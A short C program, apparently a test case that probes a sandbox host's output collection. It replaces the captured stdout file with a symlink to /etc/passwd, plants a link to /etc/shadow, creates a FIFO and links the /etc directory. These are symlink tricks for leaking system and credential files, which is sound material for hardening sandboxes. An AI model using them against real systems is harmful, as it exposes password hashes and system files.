/* Attacks the host's post-processing: replaces its output files with links/FIFOs where it can, plants links in the
 * scratch folder (collected by the host in collect mode). */
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    printf("visible output\n"); fflush(stdout);
    printf("unlink stdout: %s\n", unlink("/box/out/stdout") == 0 ? "DONE" : strerror(errno));
    printf("symlink over stdout: %s\n", symlink("/etc/passwd", "/box/out/stdout") == 0 ? "DONE" : strerror(errno));
    printf("link out.txt: %s\n", symlink("/etc/shadow", "out.txt") == 0 ? "made" : strerror(errno));
    printf("fifo: %s\n", mkfifo("fifo.txt", 0666) == 0 ? "made" : strerror(errno));
    printf("dirlink: %s\n", symlink("/etc", "etc") == 0 ? "made" : strerror(errno));
    return 0;
}
